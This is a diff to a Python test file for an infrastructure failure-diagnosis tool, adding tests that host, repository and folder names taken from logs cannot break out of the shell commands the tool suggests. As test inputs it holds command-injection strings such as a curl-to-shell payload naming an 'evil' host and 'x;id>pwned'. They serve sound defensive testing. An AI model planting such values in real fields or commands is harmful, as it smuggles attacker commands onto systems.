@@ -2,11 +2,17 @@
 
 from __future__ import annotations
 
+import functools
 import json
-import string
+import shlex
 import time
+from dataclasses import replace
 from typing import TYPE_CHECKING, Any
 
+import cases_host
+import cases_release
+import cases_services
+import cases_visible
 import pytest
 from cases_release import UNLOCKED
 from cases_services import CRASHED
@@ -14,13 +20,36 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from situations import DECLARED, drift, error, failure, healthy, service, situation
 
+from infra.healing.causes import CAUSES, UNKNOWN
 from infra.healing.diagnosis import diagnose
-from infra.healing.model import Failure, Situation, Statement, Verdict
+from infra.healing.model import Failure, Match, Situation, Statement, Verdict
+from infra.healing.wording import next_steps_of
 from infra.transport.remote.tracebacks import first_error, marked_lines
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
 
+SENTENCES = {
+    *(
+        "add",
+        "ask",
+        "change",
+        "check",
+        "compare",
+        "count",
+        "declare",
+        "free",
+        "have",
+        "install",
+        "look",
+        "make",
+        "mend",
+    ),
+    *("move", "open", "or", "push", "put", "raise", "read", "remove", "restart", "say", "take", "the", "wait", "write"),
+}
+"""The words with which a next step begins that is no command."""
+WORD = "aPlainWord"
+ALL_CASES = (*cases_host.CASES, *cases_release.CASES, *cases_services.CASES, *cases_visible.CASES)
 ACTING = (Verdict.HEAL, Verdict.GUARD)
 LONG = "A" * (1 << 20)
 WORDS = (
@@ -288,6 +317,20 @@ def test_long_runs_of_one_thing_cost_no_time(filler: str) -> None:
     assert time.monotonic() - began < 3.0
 
 
+def is_command(step: str) -> bool:
+    return step.partition(" ")[0].rstrip(",") not in SENTENCES
+
+
+@functools.cache
+def all_matches() -> list[Match]:
+    return [match for case in ALL_CASES for match in diagnose(case.proves)]
+
+
+def shell_words(command: str) -> list[str]:
+    """Give the words of a command as a shell parts them, its operators among them."""
+    return list(shlex.shlex(command, posix=True, punctuation_chars=True))
+
+
 def test_what_a_log_says_never_breaks_out_of_a_command() -> None:
     nasty = "x;curl$IFS'evil'|sh&&`id`"
     lines = (
@@ -298,11 +341,37 @@ def test_what_a_log_says_never_breaks_out_of_a_command() -> None:
     )
     for line in lines:
         for match in diagnose(situation(failure("IMAGE_BUILD_FAILED", line, phase="build"))):
-            commands = [step for step in match.cause.next_steps if step.startswith(("greenroom", "git", "docker"))]
-            names = [name for _, name, _, _ in string.Formatter().parse(" ".join(commands)) if name]
-            values = [str(match.details.get(name, match.subject)) for name in names]
-            bare = [value for value in values if any(each in value for each in ";|&`$") and not value.startswith("'")]
-            assert bare == [], match.cause.code
+            assert any(each in str(match.details) for each in ";|&`$"), "it was not even read"
+            for step in filter(is_command, next_steps_of(match)):
+                assert not ({"sh", "id", "curl$IFS"} & set(shell_words(step))), step
+
+
+@pytest.mark.parametrize("name", ["x;id>pwned", "x`id`", "$(id)", "a b", "it's", "a\nid", "&&id", "-n|id", "\x1b[2Jid"])
+def test_no_name_of_a_host_or_a_repository_is_more_than_a_word_of_a_command(name: str) -> None:
+    """Whatever cause: everything that a match carries has the name, and no command that is offered has more words."""
+    for match in all_matches():
+        hostile = replace(match, subject=name, details=dict.fromkeys(match.details, name))
+        plain = replace(match, subject=WORD, details=dict.fromkeys(match.details, WORD))
+        for step, as_it_should in zip(next_steps_of(hostile), next_steps_of(plain), strict=True):
+            if is_command(step):
+                shown = "".join(each for each in name if each.isprintable())
+                assert shell_words(step) == [word.replace(WORD, shown) for word in shell_words(as_it_should)], step
+
+
+def test_a_folder_of_the_repository_does_not_break_out_of_the_commands_that_track_its_lock_file() -> None:
+    folder = "x;id>pwned"
+    unlocked = {**UNLOCKED, "folder": folder, "lock_file": f"{folder}/package-lock.json"}
+    given = situation(
+        failure("IMAGE_BUILD_FAILED", "npm error code EUSAGE", phase="build"), git={"unlocked": [unlocked]}
+    )
+    steps = next_steps_of(diagnose(given)[0])
+    assert "cd 'x;id>pwned' && npm install --package-lock-only" in steps[1]
+    assert steps[2].startswith("git add -f -- 'x;id>pwned/package-lock.json' && git commit && git push ")
+
+
+def test_every_step_is_known_to_be_a_command_or_a_sentence() -> None:
+    first = {step.split()[0].rstrip(",") for each in (*CAUSES, UNKNOWN) for step in each.next_steps}
+    assert {word for word in first if not is_command(f"{word} ")} == SENTENCES
 
 
 def test_a_password_in_an_url_is_in_no_proof() -> None:
